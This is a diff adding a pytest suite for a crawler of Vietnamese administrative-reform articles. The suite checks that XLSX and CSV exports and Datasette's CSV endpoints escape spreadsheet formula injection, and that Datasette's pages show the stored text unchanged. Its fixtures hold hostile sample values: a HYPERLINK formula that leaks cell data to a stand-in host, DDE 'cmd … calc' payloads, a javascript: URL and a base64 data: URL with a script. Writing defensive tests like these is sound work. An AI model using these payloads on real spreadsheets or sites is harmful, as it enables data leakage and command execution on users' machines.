@@ -1,0 +1,120 @@
+"""Issue 30: what a site's text can do once stored. A title such as ``=HYPERLINK(...)`` must stay text in every
+spreadsheet we write (XLSX string cells; CSV cells escaped as OWASP describes for CSV injection, in
+``python -m crawler export`` and in Datasette's own .csv) while Datasette's pages show it as it is; a
+``javascript:`` or ``data:`` URL is never a link; a POST is refused, never a server error."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+
+import pytest
+
+from browse_server import datasette_on, http_get
+from conftest import ROOT
+from crawler.store.articles import ArticleStore
+from test_storage import article
+
+FORMULA = '=HYPERLINK("http://x/leak?"&A2,"Bấm vào đây")'
+# Every value a spreadsheet would run: a leading =, +, -, @, tab or carriage return (OWASP, CSV injection).
+RISKY = {"title": FORMULA, "lead": "+1+cmd|' /C calc'!A0 thủ tục", "author": "-2+3+cmd|' /C calc'!A0",
+         "source_attribution": "@SUM(1+1)*cmd|' /C calc'!A0", "category": "\t=1+1", "province": "\r=1+1"}
+EVIL_URL = "javascript:alert(document.domain)//https://x.gov.vn/a"
+
+
+def cchc(item: dict) -> dict:
+    return dict(item, from_cchc_section=True, relevance=1.0, topics=["mot_cua"], topic_terms={"mot_cua": ["mot cua"]})
+
+
+@pytest.fixture(scope="module")
+def db(tmp_path_factory):
+    """Three CCHC articles: one whose every text field is a formula, one whose URL is ``javascript:`` (written
+    straight into the store, as an older version or another tool could have), and a plain one."""
+    path = tmp_path_factory.mktemp("hostile") / "cchc.db"
+    store = ArticleStore(path, batch_size=1)
+    items = [cchc(article("https://a.gov.vn/formula", body="Công thức trong tiêu đề bài viết về một cửa liên thông.",
+                          **{k: v for k, v in RISKY.items() if k != "title"}) | {"title": FORMULA}),
+             cchc(article(EVIL_URL, title="Liên kết javascript trong địa chỉ bài",
+                          body="Bài có địa chỉ javascript và ảnh data, về dịch vụ công trực tuyến.",
+                          images=[{"url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "caption": "x"}],
+                          canonical_url=None)),
+             cchc(article("https://a.gov.vn/plain", title="Bài bình thường về cải cách hành chính",
+                          body="Một bài bình thường, không có gì lạ, về cải cách hành chính của tỉnh."))]
+    for item in items:
+        from crawler.processing import assign_content_hash
+
+        assign_content_hash(item)
+        assert store.classify(item["url"], item["content_hash"], item["site"]) == "new"
+        store.add(item)
+    store.close()
+    return path
+
+
+@pytest.fixture(scope="module")
+def site(db):
+    with datasette_on(db) as base:
+        yield base
+
+
+def cells_of_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def assert_no_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (value, row)
+
+
+# -- item 2: spreadsheets ---------------------------------------------------------------------------------------
+def export(db, tmp_path, *args):
+    out = tmp_path / ("out.xlsx" if "xlsx" in args else "out.csv")
+    result = subprocess.run([sys.executable, "-m", "crawler", "export", str(db), "-o", str(out), *args],
+                            cwd=ROOT, capture_output=True, text=True, timeout=120)
+    assert result.returncode == 0, result.stderr
+    return out
+
+
+def test_export_xlsx_writes_formulas_as_text(db, tmp_path):
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(export(db, tmp_path, "--format", "xlsx")).active
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    assert FORMULA in cells and cells[FORMULA].data_type == "s"  # a string cell, shown exactly as the site wrote it
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert RISKY["lead"] in cells and cells[RISKY["lead"]].data_type == "s"
+    assert "title" in header
+
+
+def test_export_csv_escapes_formulas(db, tmp_path):
+    rows = cells_of_csv(export(db, tmp_path).read_text(encoding="utf-8-sig"))
+    assert_no_formula(rows)
+    titles = [r[rows[0].index("title")] for r in rows[1:]]
+    assert "'" + FORMULA in titles  # the usual leading apostrophe: Excel shows the text, runs nothing
+    assert "Bài bình thường về cải cách hành chính" in titles  # other text untouched
+
+
+@pytest.mark.parametrize("path", ["/cchc/cchc_articles.csv?_size=max", "/cchc/articles.csv?_stream=on",
+                                  "/cchc/all_articles.csv?_stream=on&_size=1",
+                                  "/cchc.csv?sql=select+title,+lead,+author,+category,+province+from+articles"])
+def test_datasette_csv_escapes_formulas(site, path):
+    with urllib.request.urlopen(site + path, timeout=30) as response:
+        raw = response.read()
+    assert raw.startswith(b"\xef\xbb\xbf")  # still Excel's UTF-8 mark
+    rows = cells_of_csv(raw.decode("utf-8"))
+    assert len(rows) >= 4, rows
+    assert_no_formula(rows)
+    assert any("'" + FORMULA in row for row in rows)
+
+
+def test_datasette_pages_show_the_text_as_it_is(site):
+    data = http_get(site + "/cchc/articles.json?_shape=array&_col=title&_col=lead")
+    assert FORMULA in [r["title"] for r in data] and RISKY["lead"] in [r["lead"] for r in data]
+    page = http_get(site + "/cchc/cchc_articles")
+    assert "=HYPERLINK(&#34;http://x/leak?&#34;&amp;A2" in page or "=HYPERLINK(&quot;http://x/leak?&quot;&amp;A2" in page
+    assert "&#39;=HYPERLINK" not in page and "'=HYPERLINK" not in page
